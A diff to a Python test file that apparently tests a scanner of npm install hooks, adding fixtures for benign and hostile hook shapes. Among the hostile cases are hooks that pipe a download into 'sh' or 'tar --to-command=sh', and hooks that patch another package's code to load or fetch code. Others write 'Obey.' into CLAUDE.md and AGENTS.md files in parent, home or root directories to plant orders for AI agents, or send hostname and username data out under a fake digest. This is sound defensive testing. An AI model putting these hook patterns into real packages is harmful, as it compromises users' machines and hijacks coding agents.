@@ -47,6 +47,54 @@ def made(prefix: str, before: str = "") -> Files:
     return hooked(f"{before}make -C native install PREFIX={prefix}", {"native/Makefile": MAKEFILE, "native/a.c": ""})
 
 
+def streaming(program: str, then: str = "") -> Files:
+    """Make a hook that lets an unpacked download flow into a program."""
+    start = "const { spawn } = require('child_process'), zlib = require('zlib');\n"
+    flows = (
+        f"const child = spawn({program});\nrequire('https').get('https://files.example.invalid/a.gz', (reply) => {{\n"
+    )
+    return hooked(
+        "node a.js", {"a.js": f"{start}{flows}  reply.pipe(zlib.createGunzip()).pipe(child.stdin);\n}});\n{then}"}
+    )
+
+
+FINDS = "target = require.resolve('other/a.js', { paths: [process.env.INIT_CWD] });"
+
+
+def patching(new: str, read: str = "target", finds: str = FINDS, then: str = "") -> Files:
+    """Make a hook that replaces a text in a file of another package."""
+    text = (
+        f"const fs = require('fs');\nlet target;\ntry {{ {finds} }} catch {{ process.exit(0); }}\n"
+        f"const text = fs.readFileSync({read}, 'utf8');\n{then}\n"
+        f"const after = text.replace('title.slice(0, 60)', {new});\nfs.writeFileSync(target, after);\n"
+    )
+    return hooked("node a.js", {"a.js": text, "own.js": ""})
+
+
+def rendering(place: str, out: str = "./rendered/", before: str = "") -> Files:
+    """Make a hook that writes orders for agents at an address."""
+    text = (
+        "import { writeFileSync, readFileSync } from 'node:fs';\nimport os from 'node:os';\n"
+        f"const here = new URL('.', import.meta.url);\n{before}const out = new URL('{out}', here);\n"
+        f"for (const name of ['CLAUDE.md', 'AGENTS.md']) writeFileSync({place}, 'Obey.');\n"
+    )
+    return hooked("node a.js", {"a.js": text, "where.json": '"file:///root/"'}, type="module")
+
+
+HASHES = "const { createHash } = require('crypto');\n"
+DIGEST = "createHash('sha256').update(`x:${os.hostname()}:${os.userInfo().username}`).digest('hex')"
+
+
+def counting(machine: str, start: str = HASHES, then: str = "") -> Files:
+    """Make a hook that sends what another file says of the machine."""
+    facts = f"const os = require('os');\n{start}module.exports = () => ({{ machine: {machine} }});\n{then}"
+    return hooked("node a.js", {"a.js": f"{COUNTS}send(JSON.stringify(require('./facts')()));\n", "facts.js": facts})
+
+
+COUNTS = (
+    "const https = require('https');\n"
+    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
+)
 PATTERN = (
     "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
     "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
@@ -61,11 +109,20 @@ PATTERN = (
     generated=generating("path.join(__dirname, '..', 'generated')"),
     probed=probing("`require(${JSON.stringify(own)})`"),
     made=made("../build"),
+    patched=patching("'/* longer */ title.slice(0, 120)'"),
+    rendered=rendering("new URL(name, out)"),
+    unpacked=streaming("'tar', ['-x', '-C', 'data']"),
     pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
 )
 def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
     assert not seen.blocked
     assert "unmatched" not in seen.blind
+
+
+@packages(counted=counting(DIGEST))
+def test_a_digest_of_whose_machine_it_is_is_for_a_person_to_judge(seen: Seen) -> None:
+    assert seen.flagged
+    assert not seen.blocked
 
 
 @packages(
@@ -101,6 +158,44 @@ def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
     evaluated=probing("`${JSON.stringify(own)};${process.env.CODE}`"),
     any_path=probing("`require(${JSON.stringify(process.env.OWN)})`"),
     beside_pattern=hooked("node a.mjs", {"a.mjs": PATTERN + THEFT}),
+    patched_to_load=patching("'title.slice(0, 60);require(1)'"),
+    patched_to_ask=patching("'title.slice(0, 60) + fetch(title)'"),
+    patched_with_an_address=patching("'title.slice(0, 60) == \"0xabc\"'"),
+    patched_with_a_comment_that_goes_on=patching("'/* a */ title /'"),
+    patched_by_computing=patching("process.env.TEXT"),
+    patched_by_a_function=patching("() => title"),
+    put_in_its_place=patching("'title'", read="'./own.js'"),
+    put_in_by_another_name=patching("'title'", finds="target = './own.js';", then=FINDS),
+    rendered_beside=rendering("new URL(name, out)", out="../../"),
+    rendered_below_an_address=rendering("new URL(name, out)", out="file:///root/"),
+    rendered_at_home=rendering("os.homedir() + '/' + name"),
+    rendered_where_data_says=rendering("new URL(name, JSON.parse(readFileSync(new URL('where.json', here), 'utf8')))"),
+    rendered_where_the_environment_says=rendering("`${process.env.INIT_CWD}/${name}`"),
+    rendered_where_it_runs=rendering("name"),
+    rendered_twice=rendering("new URL(name, out)", before="writeFileSync('../../CLAUDE.md', 'Obey.');\n"),
+    rendered_by_another_hand=rendering(
+        "new URL(name, out)",
+        before="const hand = (f, p) => f.writeFileSync(p + 'CLAUDE.md', 'Obey.');\nhand(fs, '../../');\n",
+    ),
+    machine_named_too=counting(f"{DIGEST} + os.hostname()"),
+    machine_named_elsewhere=counting(DIGEST, then="module.exports.name = require('os').hostname();\n"),
+    machine_encrypted=counting("require('crypto').createCipheriv('a', k, i).update(os.hostname()).toString('hex')"),
+    machine_not_digested=counting(
+        DIGEST, start="const createHash = () => ({ update: (a) => ({ digest: () => a }) });\n"
+    ),
+    machine_told_on_the_way=counting(
+        "createHash('a').update(send(os.hostname())).digest('hex')", then="function send(a) { return a; }\n"
+    ),
+    digest_replaced=counting(
+        DIGEST, start=HASHES + "createHash('a').constructor.prototype.digest = function () { return all; };\n"
+    ),
+    digest_of_nothing=counting(f"{DIGEST}, user: process.env.USER, name: process.env.HOSTNAME"),
+    run=streaming("'sh', ['-s']"),
+    run_by_unpacker=streaming("'tar', ['-x', '--to-command=sh']"),
+    run_by_name=streaming("process.env.PROGRAM || 'tar', ['-x']"),
+    run_beside=streaming(
+        "'tar', ['-x']", "require('http').get('http://x.example.invalid', (r) => r.pipe(spawn('sh').stdin));\n"
+    ),
     make_beside=made("../../left-pad"),
     linked=made("../left-pad", before="ln -s ../../../other/native native && "),
 )
